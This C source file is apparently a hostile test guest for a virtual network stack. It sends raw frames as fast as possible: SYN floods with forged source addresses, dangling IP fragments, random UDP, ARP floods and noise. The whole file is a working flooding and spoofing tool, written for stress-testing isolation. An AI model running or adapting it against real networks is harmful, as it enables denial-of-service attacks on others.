/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A guest that means harm: frames past its own TCP/IP, as fast as they go.
 *
 *   flood SECONDS ADDR PORT   SYNs to ADDR:PORT and to anywhere, from itself and from
 *                             forged addresses, datagrams to random ports, fragments
 *                             whose rest never comes, ARP for everybody, noise; prints
 *                             "sent N"
 */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t state = 88172645463325252ull;

static uint32_t any(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (uint32_t)(state >> 16);
}

static void put16(uint8_t *at, uint32_t v)
{
	at[0] = (uint8_t)(v >> 8);
	at[1] = (uint8_t)v;
}

static void put32(uint8_t *at, uint32_t v)
{
	put16(at, v >> 16);
	put16(at + 2, v);
}

/* RFC 1071 over @len bytes, on top of @sum. */
static uint32_t checksum(const uint8_t *at, size_t len, uint32_t sum)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return sum;
}

/* An IPv4 header in front of @len bytes at @ip + 20. */
static size_t ip_header(uint8_t *ip, uint8_t proto, uint32_t from, uint32_t to, size_t len, uint16_t fragment)
{
	memset(ip, 0, 20);
	ip[0] = 0x45;
	put16(ip + 2, (uint32_t)(20 + len));
	put16(ip + 4, any());
	put16(ip + 6, fragment);
	ip[8] = 64;
	ip[9] = proto;
	put32(ip + 12, from);
	put32(ip + 16, to);
	put16(ip + 10, ~checksum(ip, 20, 0) & 0xffff);
	return 20 + len;
}

static size_t syn(uint8_t *ip, uint32_t from, uint32_t to, uint32_t port)
{
	uint8_t *tcp = ip + 20;

	memset(tcp, 0, 20);
	put16(tcp, any() | 1024);
	put16(tcp + 2, port);
	put32(tcp + 4, any());
	tcp[12] = 5 << 4;
	tcp[13] = 2;	/* SYN */
	put16(tcp + 14, 65535);
	(void)ip_header(ip, IPPROTO_TCP, from, to, 20, 0);
	put16(tcp + 16, ~checksum(tcp, 20, checksum(ip + 12, 8, IPPROTO_TCP + 20)) & 0xffff);
	return 40;
}

static size_t make_frame(uint8_t *frame, uint32_t victim, uint32_t port)
{
	const uint32_t self = 10u << 24 | 2 << 8 | 15;
	uint8_t *ip = frame + 14;
	size_t len = any() % 1400;

	for (size_t i = 0; i < 1500; i += 4)
		put32(ip + i, any());
	switch (any() % 8) {
	case 0: return 14 + syn(ip, self, victim, port);
	case 1: return 14 + syn(ip, self, any(), any());
	case 2: return 14 + syn(ip, any(), victim, port);	/* forged */
	case 3:	/* the first of more fragments */
		return 14 + ip_header(ip, any() & 1 ? IPPROTO_UDP : IPPROTO_TCP, self, victim, (len & ~7u) + 8, 0x2000);
	case 4:	/* one from the middle */
		return 14 + ip_header(ip, IPPROTO_UDP, self, any(), (len & ~7u) + 8, (uint16_t)(0x2000 | (any() & 0x1fff)));
	case 5:
		put16(ip + 20, any() | 1024);
		put16(ip + 22, any());
		put16(ip + 24, (uint32_t)(8 + len));
		put16(ip + 26, 0);	/* no checksum */
		return 14 + ip_header(ip, IPPROTO_UDP, self, victim, 8 + len, 0);
	case 6:
		put16(frame + 12, ETHERTYPE_ARP);
		put32(ip, 0x00010800);
		put32(ip + 4, 0x06040001 + (any() & 1));
		return 14 + 28;
	default:
		put16(frame + 12, any() & 1 ? ETHERTYPE_IP : any() & 1 ? ETHERTYPE_IPV6 : any());
		return 14 + len;
	}
}

int main(int argc, char **argv)
{
	static const uint8_t gateway[6] = { 0x02, 'r', 'o', 'u', 'x', 0x01 };
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_halen = 6, .sll_ifindex = (int)if_nametoindex("eth0") };
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	uint8_t frame[14 + 2048];
	unsigned long sent = 0;
	time_t end;

	if (argc != 4 || fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return 1;
	end = time(NULL) + atoi(argv[1]);
	while (time(NULL) < end) {
		memcpy(frame, gateway, 6);
		put32(frame + 6, 0x02000000);
		put16(frame + 10, any() & 3);
		put16(frame + 12, ETHERTYPE_IP);
		sent += send(fd, frame, make_frame(frame, ntohl(inet_addr(argv[2])), (uint32_t)atoi(argv[3])), 0) > 0;
	}
	printf("sent %lu\n", sent);
	return 0;
}
